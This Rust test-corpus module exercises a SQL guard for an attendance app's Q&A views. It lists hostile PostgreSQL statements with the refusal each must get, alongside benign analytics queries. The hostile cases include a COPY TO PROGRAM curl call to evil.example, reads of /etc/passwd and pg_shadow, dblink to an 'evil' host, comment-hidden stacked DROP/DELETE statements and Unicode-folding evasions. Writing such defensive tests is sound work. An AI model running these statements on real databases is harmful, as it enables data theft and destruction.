//! A shared corpus of SQL for the guard: hostile statements, each with the
//! kind of refusal it must get, and benign questions over the Q&A views that
//! must pass. The guard's unit tests and `benches/guard.rs` both read it, so
//! what is measured is what is tested; a backend's tests may run it too (the
//! benign statements use the real columns of `attendance-pg`'s Q&A views).
//!
//! Available with the `testkit` feature.
//!
//! ```
//! use attendance_core::guard::SqlGuard;
//! use attendance_core::guard::corpus::{self, RefusalKind};
//!
//! let guard = SqlGuard::for_catalog(&corpus::catalog());
//! for case in corpus::HOSTILE {
//!     let refusal = guard.check(case.sql).unwrap_err();
//!     assert_eq!(RefusalKind::of(&refusal), case.refused_as, "{}", case.sql);
//! }
//! for sql in corpus::BENIGN {
//!     assert!(guard.check(sql).is_ok(), "{sql}");
//! }
//! ```

use crate::ask::{Catalog, RelationDoc};

use super::Refusal;

use RefusalKind as K;

/// The Q&A views the corpus is written against (those of `attendance-pg`).
pub const VIEWS: [&str; 4] = [
    "qa_sessions",
    "qa_employees",
    "qa_teams",
    "qa_daily_attendance",
];

/// A catalog of [`VIEWS`], names only, to build a guard with.
pub fn catalog() -> Catalog {
    Catalog {
        relations: VIEWS
            .iter()
            .map(|&name| RelationDoc {
                name,
                description: "a Q&A view",
                columns: Vec::new(),
            })
            .collect(),
        examples: Vec::new(),
    }
}

/// The kind of a [`Refusal`], without its details, so a case can say which
/// one it expects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum RefusalKind {
    /// [`Refusal::Empty`].
    Empty,
    /// [`Refusal::TooLong`].
    TooLong,
    /// [`Refusal::TooDeep`].
    TooDeep,
    /// [`Refusal::Unparsable`].
    Unparsable,
    /// [`Refusal::MultipleStatements`].
    MultipleStatements,
    /// [`Refusal::NotSelect`].
    NotSelect,
    /// [`Refusal::DataModifyingCte`].
    DataModifyingCte,
    /// [`Refusal::SelectInto`].
    SelectInto,
    /// [`Refusal::Locking`].
    Locking,
    /// [`Refusal::Relation`].
    Relation,
    /// [`Refusal::WithNameTaken`].
    WithNameTaken,
    /// [`Refusal::Function`].
    Function,
    /// [`Refusal::TableFunction`].
    TableFunction,
    /// [`Refusal::Construct`].
    Construct,
    /// [`Refusal::GuardFailure`]; no case expects it.
    GuardFailure,
}

impl RefusalKind {
    /// The kind of `refusal`.
    pub fn of(refusal: &Refusal) -> Self {
        // Exhaustive: a new refusal needs a kind before the crate compiles.
        match refusal {
            Refusal::Empty => Self::Empty,
            Refusal::TooLong { .. } => Self::TooLong,
            Refusal::TooDeep => Self::TooDeep,
            Refusal::Unparsable { .. } => Self::Unparsable,
            Refusal::MultipleStatements { .. } => Self::MultipleStatements,
            Refusal::NotSelect { .. } => Self::NotSelect,
            Refusal::DataModifyingCte => Self::DataModifyingCte,
            Refusal::SelectInto => Self::SelectInto,
            Refusal::Locking => Self::Locking,
            Refusal::Relation { .. } => Self::Relation,
            Refusal::WithNameTaken { .. } => Self::WithNameTaken,
            Refusal::Function { .. } => Self::Function,
            Refusal::TableFunction { .. } => Self::TableFunction,
            Refusal::Construct { .. } => Self::Construct,
            Refusal::GuardFailure { .. } => Self::GuardFailure,
        }
    }
}

/// A statement the guard must refuse, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hostile {
    /// The statement.
    pub sql: &'static str,
    /// The refusal it must get.
    pub refused_as: RefusalKind,
}

const fn hostile(sql: &'static str, refused_as: RefusalKind) -> Hostile {
    Hostile { sql, refused_as }
}

/// Statements that write, read outside the views, call dangerous functions,
/// lock, or hide a second statement; each names the refusal it must get.
pub const HOSTILE: &[Hostile] = &[
    // writes and DDL
    hostile(
        "INSERT INTO qa_sessions (employee_id) VALUES (1)",
        K::NotSelect,
    ),
    hostile("UPDATE qa_sessions SET clock_out = now()", K::NotSelect),
    hostile("DELETE FROM qa_sessions", K::NotSelect),
    hostile(
        "MERGE INTO qa_sessions s USING qa_employees e ON s.employee_id = e.id \
         WHEN MATCHED THEN DELETE",
        K::NotSelect,
    ),
    hostile("TRUNCATE qa_sessions", K::NotSelect),
    hostile("CREATE TABLE x (id int)", K::NotSelect),
    hostile("DROP TABLE qa_sessions", K::NotSelect),
    hostile("ALTER TABLE qa_sessions ADD COLUMN x int", K::NotSelect),
    hostile("GRANT ALL ON qa_sessions TO PUBLIC", K::NotSelect),
    hostile("CREATE ROLE evil SUPERUSER LOGIN", K::NotSelect),
    hostile(
        "WITH x AS (SELECT 1) INSERT INTO qa_teams SELECT * FROM x",
        K::NotSelect,
    ),
    // several statements, hidden or not
    hostile("SELECT 1; DROP TABLE x", K::MultipleStatements),
    hostile(
        "SELECT 1 /* harmless */; DROP TABLE qa_sessions",
        K::MultipleStatements,
    ),
    hostile(
        "SELECT 1 -- just a comment\n; DELETE FROM qa_sessions",
        K::MultipleStatements,
    ),
    hostile(
        "sElEcT * FrOm qa_sessions; dElEtE fRoM qa_sessions",
        K::MultipleStatements,
    ),
    // files and programs
    hostile(
        "COPY qa_sessions TO PROGRAM 'curl http://evil.example'",
        K::NotSelect,
    ),
    hostile("COPY qa_sessions FROM '/etc/passwd'", K::NotSelect),
    hostile("SELECT pg_read_file('/etc/passwd')", K::Function),
    hostile("SELECT pg_ls_dir('/')", K::Function),
    hostile("SELECT * FROM pg_ls_dir('.') AS f", K::TableFunction),
    hostile("SELECT lo_import('/etc/passwd')", K::Function),
    hostile("SELECT lo_export(1234, '/tmp/x')", K::Function),
    // dangerous or revealing functions
    hostile("SELECT pg_sleep(100)", K::Function),
    hostile(
        "SELECT set_config('statement_timeout', '0', false)",
        K::Function,
    ),
    hostile("SELECT current_setting('data_directory')", K::Function),
    hostile("SELECT nextval('some_seq')", K::Function),
    hostile("SELECT setval('some_seq', 1)", K::Function),
    hostile("SELECT txid_current()", K::Function),
    hostile("SELECT pg_advisory_lock(1)", K::Function),
    hostile("SELECT version()", K::Function),
    hostile("SELECT current_user", K::Function),
    // keywords PostgreSQL evaluates as functions, written without parentheses
    hostile("SELECT current_role", K::Function),
    hostile("SELECT CURRENT_ROLE", K::Function),
    hostile("SELECT session_user", K::Function),
    hostile("SELECT user", K::Function),
    hostile("SELECT system_user", K::Function),
    hostile("SELECT current_schema", K::Function),
    hostile("SELECT current_catalog", K::Function),
    hostile("SELECT current_schema()", K::Function),
    hostile(
        "SELECT team_name FROM qa_teams WHERE team_name = session_user",
        K::Function,
    ),
    hostile(
        "SELECT count(*) FROM qa_teams GROUP BY current_role",
        K::Function,
    ),
    hostile(
        "SELECT query_to_xml('select * from pg_shadow', true, true, '')",
        K::Function,
    ),
    hostile(
        "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
        K::Function,
    ),
    hostile(
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
        K::TableFunction,
    ),
    hostile("SELECT pg_catalog.now()", K::Function),
    hostile("SELECT \"pg_sleep\"(1)", K::Function),
    hostile("SELECT ARRAY(SELECT usename FROM pg_user)", K::Function),
    hostile("SELECT attendance.evil()", K::Function),
    hostile(
        "SELECT * FROM qa_sessions WHERE clock_in < (SELECT pg_sleep(1))",
        K::Function,
    ),
    hostile(
        "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM qa_sessions",
        K::Function,
    ),
    hostile(
        "SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM qa_sessions",
        K::Function,
    ),
    hostile("SELECT generate_series(1, 1e9)", K::Function),
    // relations outside the allow-list
    hostile("SELECT * FROM pg_catalog.pg_user", K::Relation),
    hostile("SELECT usename, passwd FROM pg_shadow", K::Relation),
    hostile("SELECT * FROM information_schema.tables", K::Relation),
    hostile("SELECT relname FROM pg_class", K::Relation),
    hostile("SELECT * FROM ONLY pg_class", K::Relation),
    hostile(
        "SELECT * FROM qa_sessions LIMIT (SELECT count(*) FROM pg_class)",
        K::Relation,
    ),
    hostile("SELECT * FROM public.anything", K::Relation),
    hostile("SELECT * FROM \"pg_catalog\".\"pg_user\"", K::Relation),
    hostile("SELECT * FROM attendance.pg_user", K::Relation),
    hostile("SELECT * FROM attendance.\"QA_SESSIONS\"", K::Relation),
    hostile("SELECT * FROM mydb.attendance.qa_sessions", K::Relation),
    hostile(
        "SELECT * FROM pg_class a, pg_attribute b, pg_proc c",
        K::Relation,
    ),
    hostile(
        "SELECT employee_id::text FROM qa_sessions UNION SELECT rolname FROM pg_catalog.pg_roles",
        K::Relation,
    ),
    hostile(
        "SELECT * FROM qa_sessions WHERE employee_id::text IN (SELECT rolname FROM pg_authid)",
        K::Relation,
    ),
    hostile(
        "SELECT * FROM qa_employees e JOIN LATERAL (SELECT * FROM pg_stat_activity) a ON true",
        K::Relation,
    ),
    // WITH names must not open a hole
    hostile(
        "WITH pg_user AS (SELECT 1) SELECT * FROM pg_catalog.pg_user",
        K::Relation,
    ),
    hostile(
        "SELECT * FROM pg_user, (WITH pg_user AS (SELECT 1 AS x) SELECT * FROM pg_user) t",
        K::Relation,
    ),
    hostile(
        "WITH a AS (SELECT * FROM pg_shadow), pg_shadow AS (SELECT 1) SELECT * FROM a",
        K::Relation,
    ),
    hostile(
        "WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow",
        K::Relation,
    ),
    hostile(
        "WITH qa_sessions AS (SELECT 1) SELECT * FROM qa_sessions",
        K::WithNameTaken,
    ),
    // PostgreSQL folds only ASCII letters: a WITH name with the Kelvin sign
    // (U+212A, lower case `k`) or a dotless capital I is not `pg_locks`.
    hostile(
        "WITH pg_loc\u{212A}s AS (SELECT 1) SELECT * FROM pg_locks",
        K::Relation,
    ),
    hostile(
        "WITH pg_locks AS (SELECT 1) SELECT * FROM pg_loc\u{212A}s",
        K::Relation,
    ),
    hostile(
        "WITH \u{130}nformation AS (SELECT 1) SELECT * FROM information",
        K::Relation,
    ),
    hostile("SELECT * FROM qa_se\u{17F}\u{17F}ions", K::Relation),
    hostile("SELECT * FROM attendance.QA_\u{212A}EAMS", K::Relation),
    hostile("SELECT ran\u{212A}() OVER () FROM qa_teams", K::Function),
    hostile("SELECT ma\u{212A}e_date(2024, 1, 1)", K::Function),
    hostile(
        "WITH t AS (SELECT 1), t AS (SELECT 2) SELECT * FROM t",
        K::WithNameTaken,
    ),
    // table functions
    hostile("SELECT * FROM generate_series(1, 1e9)", K::TableFunction),
    hostile("SELECT * FROM unnest(ARRAY[1, 2])", K::TableFunction),
    hostile(
        "SELECT * FROM qa_employees e, LATERAL generate_series(1, 10) g",
        K::TableFunction,
    ),
    // locks, SELECT INTO, data-modifying WITH
    hostile("SELECT * FROM qa_sessions FOR UPDATE", K::Locking),
    hostile("(SELECT * FROM qa_sessions FOR UPDATE)", K::Locking),
    hostile(
        "SELECT * FROM qa_sessions WHERE employee_id IN \
         (SELECT id FROM qa_employees FOR SHARE)",
        K::Locking,
    ),
    hostile("SELECT * FROM qa_teams FOR SHARE SKIP LOCKED", K::Locking),
    // sqlparser 0.64 does not know the weaker lock strengths at all
    hostile(
        "SELECT (SELECT 1 FROM qa_teams FOR NO KEY UPDATE)",
        K::Unparsable,
    ),
    hostile("SELECT * FROM qa_teams FOR KEY SHARE NOWAIT", K::Unparsable),
    hostile("SELECT * INTO newtable FROM qa_sessions", K::SelectInto),
    hostile(
        "SELECT * FROM (SELECT * INTO TEMP t FROM qa_sessions) s",
        K::SelectInto,
    ),
    hostile(
        "WITH d AS (DELETE FROM qa_sessions RETURNING *) SELECT * FROM d",
        K::DataModifyingCte,
    ),
    hostile(
        "WITH u AS (UPDATE qa_sessions SET clock_out = now() RETURNING *) SELECT count(*) FROM u",
        K::DataModifyingCte,
    ),
    hostile(
        "WITH i AS (INSERT INTO qa_teams (name) VALUES ('x') RETURNING id) SELECT * FROM i",
        K::DataModifyingCte,
    ),
    // session, transaction and server commands
    hostile("EXPLAIN ANALYZE DELETE FROM qa_sessions", K::NotSelect),
    hostile("EXPLAIN SELECT * FROM qa_sessions", K::NotSelect),
    hostile("SET statement_timeout = 0", K::NotSelect),
    hostile("SHOW data_directory", K::NotSelect),
    hostile("RESET ALL", K::NotSelect),
    hostile("BEGIN", K::NotSelect),
    hostile("COMMIT", K::NotSelect),
    hostile("VACUUM", K::NotSelect),
    hostile("LISTEN x", K::NotSelect),
    hostile("NOTIFY x", K::NotSelect),
    hostile("PREPARE p AS SELECT 1", K::NotSelect),
    hostile("EXECUTE p", K::NotSelect),
    hostile("CALL p()", K::NotSelect),
    hostile("DO $$ BEGIN PERFORM pg_sleep(10); END $$", K::Unparsable),
    hostile("TABLE pg_shadow", K::Unparsable),
    // odd syntax
    hostile("SELECT 1 OPERATOR(pg_catalog.+) 1", K::Construct),
    hostile(
        "SELECT * FROM qa_sessions WHERE id IN (TABLE pg_shadow)",
        K::Construct,
    ),
    // catalog lookups through casts
    hostile("SELECT 10::regrole", K::Construct),
    hostile(
        "SELECT CAST('pg_shadow' AS pg_catalog.regclass)",
        K::Construct,
    ),
    hostile("SELECT ARRAY[1259]::regclass[]", K::Construct),
    hostile("SELECT regproc '1'", K::Construct),
    hostile("SELECT 'postgres=r/postgres'::aclitem", K::Construct),
    hostile("SELECT CAST('x=r/y' AS ACLITEM)", K::Construct),
    hostile("SELECT ARRAY['x=r/y']::aclitem[]", K::Construct),
    hostile("SELECT aclitem 'x=r/y'", K::Construct),
    hostile("SELECT 'x'::pg_catalog.text", K::Construct),
    hostile("SELECT 'x'::pg_lsn", K::Construct),
    hostile("SELECT '1'::pg_snapshot", K::Construct),
    hostile("SELECT 'x'::regoperator", K::Construct),
    hostile("SELECT 'x'::\"regrole\"", K::Construct),
    hostile("SELECT 'x'::attendance.work_mode", K::Construct),
    hostile(
        "SELECT 'x'::information_schema.sql_identifier",
        K::Construct,
    ),
    hostile("SELECT 1::oid", K::Construct),
    hostile("SELECT '(0,1)'::tid", K::Construct),
    // empty input
    hostile("", K::Empty),
    hostile("   \n\t", K::Empty),
    hostile(";", K::Empty),
    hostile("-- only a comment", K::Empty),
];

/// A generated statement too big for the guard, which it must refuse
/// quickly and without overflowing a stack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pathological {
    /// A short name, also the bench's.
    pub name: &'static str,
    /// The statement.
    pub sql: String,
    /// The refusal it must get.
    pub refused_as: RefusalKind,
}

/// Over-long and deeply nested statements (see also the guard's own tests,
/// which go deeper with a raised length limit).
pub fn pathological() -> Vec<Pathological> {
    vec![
        Pathological {
            name: "long_5000_chars",
            sql: format!("SELECT '{}' FROM qa_sessions", "x".repeat(5000)),
            refused_as: RefusalKind::TooLong,
        },
        Pathological {
            name: "nested_1900_deep",
            sql: format!("SELECT {}1{}", "(".repeat(1900), ")".repeat(1900)),
            refused_as: RefusalKind::TooDeep,
        },
        Pathological {
            name: "plus_chain_900",
            sql: format!("SELECT 1{}", " + 1".repeat(900)),
            refused_as: RefusalKind::TooDeep,
        },
    ]
}

/// Realistic questions over the Q&A views, written against their real
/// columns: the guard must accept every one.
pub const BENIGN: &[&str] = &[
    "SELECT count(*) FROM qa_sessions",
    "SELECT team_name, count(DISTINCT employee_id) AS present FROM qa_daily_attendance \
     WHERE work_date = current_date GROUP BY team_name ORDER BY present DESC",
    "SELECT date_trunc('week', work_date) AS week, work_mode, count(*) FROM qa_sessions \
     WHERE work_date >= current_date - INTERVAL '90 days' GROUP BY 1, 2 ORDER BY 1",
    "SELECT extract(isodow FROM work_date) AS weekday, \
     avg(CASE WHEN work_mode = 'WFO' THEN 1.0 ELSE 0 END) AS office_share \
     FROM qa_sessions GROUP BY 1 ORDER BY 1",
    "WITH per_employee AS (SELECT employee_id, count(*) AS days FROM qa_daily_attendance \
     WHERE work_date BETWEEN '2024-01-01' AND '2024-01-31' GROUP BY employee_id) \
     SELECT e.employee_name, p.days FROM per_employee p JOIN qa_employees e \
     ON e.employee_id = p.employee_id ORDER BY p.days DESC LIMIT 10",
    "SELECT employee_id, work_date, hours, \
     rank() OVER (PARTITION BY work_date ORDER BY hours DESC) AS r FROM qa_sessions",
    "SELECT coalesce(t.team_name, 'no team') AS team, round(avg(s.hours), 1) AS hours \
     FROM qa_sessions s LEFT JOIN qa_employees e ON e.employee_id = s.employee_id \
     LEFT JOIN qa_teams t ON t.team_id = e.team_id GROUP BY t.team_name",
    "SELECT employee_name FROM qa_employees WHERE employee_id NOT IN \
     (SELECT employee_id FROM qa_sessions WHERE work_date = current_date)",
    "SELECT * FROM attendance.qa_sessions WHERE clock_in_at::date = DATE '2024-03-01' \
     ORDER BY clock_in_at LIMIT 50;",
    "SELECT * FROM ATTENDANCE.QA_Sessions WHERE work_mode = 'WFH'",
    "SELECT employee_id FROM qa_sessions WHERE work_mode = 'WFH' \
     UNION SELECT employee_id FROM qa_daily_attendance WHERE worked_from_office",
    "SELECT e.employee_name, \
     lag(d.work_date) OVER (PARTITION BY d.employee_id ORDER BY d.work_date) AS previous_day \
     FROM qa_daily_attendance d JOIN qa_employees e USING (employee_id)",
    "SELECT to_char(work_date, 'YYYY-MM') AS month, \
     count(*) FILTER (WHERE worked_from_office) AS office_days, count(*) AS days \
     FROM qa_daily_attendance GROUP BY 1 ORDER BY 1",
    "SELECT upper(left(employee_name, 1)) || lower(substring(employee_name FROM 2)) \
     FROM qa_employees WHERE employee_name ILIKE '%ann%'",
    "SELECT t.team_name, (SELECT count(*) FROM qa_employees e WHERE e.team_id = t.team_id) \
     AS size FROM qa_teams t WHERE EXISTS \
     (SELECT 1 FROM qa_employees e WHERE e.team_id = t.team_id AND e.is_manager)",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY hours) AS median \
     FROM qa_sessions WHERE clock_out_at IS NOT NULL",
    "WITH RECURSIVE days AS (SELECT DATE '2024-01-01' AS d UNION ALL \
     SELECT d + 1 FROM days WHERE d < DATE '2024-01-07') SELECT d FROM days",
    "SELECT * FROM (SELECT employee_id, sum(hours) AS total FROM qa_sessions \
     GROUP BY employee_id) t WHERE total > 10",
    "SELECT e.employee_name, l.last_day FROM qa_employees e, LATERAL \
     (SELECT max(work_date) AS last_day FROM qa_sessions s \
     WHERE s.employee_id = e.employee_id) l",
    // A WITH query may carry a catalog's name: inside its scope the bare
    // name means the WITH query, never the catalog.
    "WITH pg_user AS (SELECT * FROM qa_employees) SELECT count(*) FROM pg_user",
    "WITH a AS (SELECT employee_id FROM qa_sessions), b AS (SELECT * FROM a) \
     SELECT count(*) FROM b",
    "SELECT justify_interval(max(clock_out_at - clock_in_at)) FROM qa_sessions",
    "SELECT make_date(2024, 1, 1) + 1, now() AT TIME ZONE 'Europe/Berlin', CURRENT_DATE",
    "SELECT date_part('isodow', work_date), trim(both ' ' from e.employee_name), \
     position('a' IN e.employee_name), ceil(hours), floor(hours), nullif(hours, 0), \
     greatest(1, 2), split_part(e.employee_name, ' ', 1) \
     FROM qa_sessions s JOIN qa_employees e ON e.employee_id = s.employee_id",
    "SELECT work_mode, count(*) FROM qa_sessions GROUP BY ROLLUP (work_mode) \
     HAVING count(*) > 1 ORDER BY 2 DESC NULLS LAST OFFSET 5 LIMIT 5",
];
